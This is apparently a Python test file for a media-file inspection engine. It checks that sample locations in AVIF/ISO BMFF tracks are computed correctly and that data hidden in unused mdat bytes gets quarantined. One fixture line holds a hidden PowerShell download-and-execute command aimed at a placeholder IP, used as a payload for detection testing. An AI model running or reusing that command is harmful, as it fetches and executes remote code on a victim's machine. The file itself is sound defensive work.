"""An image sequence's `mdat` bytes that neither an item nor a track sample uses are judged
(agent/inspect/bmff_tracks.py, agent/inspect/isobmff.py).

ISO/IEC 14496-12 §8.7: chunk offsets (`stco`/`co64`), samples per chunk (`stsc`: runs from
`first_chunk` on) and sample sizes (`stsz`) locate every sample; a chunk's samples lie back
to back from its offset.
"""

from __future__ import annotations

import base64
import io
import struct

import pytest
from PIL import features

from agent.inspect.bmff_tracks import track_samples
from agent.inspect.engine import inspect_bytes
from agent.inspect.reader import Reader
from tests import classify_samples as cs
from tests.format_samples import box, gradient

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}


def _full(box_type: bytes, body: bytes) -> bytes:
    return box(box_type, bytes(4) + body)  # version 0, flags 0


def _moov(stbl: bytes) -> bytes:
    return box(b"moov", box(b"trak", box(b"mdia", box(b"minf", box(b"stbl", stbl)))))


def test_samples_are_located_chunk_by_chunk() -> None:
    """Chunks at 1000 and 5000; stsc: chunk 1 holds 2 samples, from chunk 2 on 1 each."""
    stbl = _full(b"stco", struct.pack(">III", 2, 1000, 5000))
    stbl += _full(b"stsc", struct.pack(">IIIIIII", 2, 1, 2, 1, 2, 1, 1))
    stbl += _full(b"stsz", struct.pack(">IIIII", 0, 3, 10, 20, 30))
    moov = _moov(stbl)
    assert track_samples(Reader.from_bytes(moov), 8, len(moov)) == [(1000, 30), (5000, 30)]


def test_a_track_without_sample_tables_locates_nothing() -> None:
    moov = _moov(_full(b"stco", struct.pack(">II", 1, 1000)))
    assert track_samples(Reader.from_bytes(moov), 8, len(moov)) is None


needs_avif = pytest.mark.skipif(not features.check("avif"), reason="Pillow without AVIF")


def _sequence() -> bytes:
    frames = [gradient((64, 48)).rotate(40 * i) for i in range(4)]
    out = io.BytesIO()
    frames[0].save(out, "AVIF", save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def _with_mdat_tail(avif: bytes, tail: bytes) -> bytes:
    """The sequence with `tail` inside its last box, the mdat, grown to cover it."""
    at = avif.rindex(b"mdat") - 4
    assert at + int.from_bytes(avif[at : at + 4], "big") == len(avif)
    grown = bytearray(avif + tail)
    grown[at : at + 4] = (len(grown) - at).to_bytes(4, "big")
    return bytes(grown)


@needs_avif
def test_an_animated_avif_is_clean() -> None:
    avif = _sequence()
    assert b"moov" in avif and b"stco" in avif
    report = inspect_bytes("clip.avif", avif)
    assert (report.verdict.value, report.findings) == ("clean", ())


@needs_avif
@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_mdat_bytes_no_sample_uses_is_quarantined(kind: str) -> None:
    report = inspect_bytes("clip.avif", _with_mdat_tail(_sequence(), PAYLOADS[kind]))
    assert report.verdict.value == "quarantine"
    assert "avif.unexplained_data" in {f.code for f in report.findings}


@needs_avif
def test_zeros_no_sample_uses_stay_clean() -> None:
    assert inspect_bytes("clip.avif", _with_mdat_tail(_sequence(), bytes(32))).verdict.value == (
        "clean"
    )
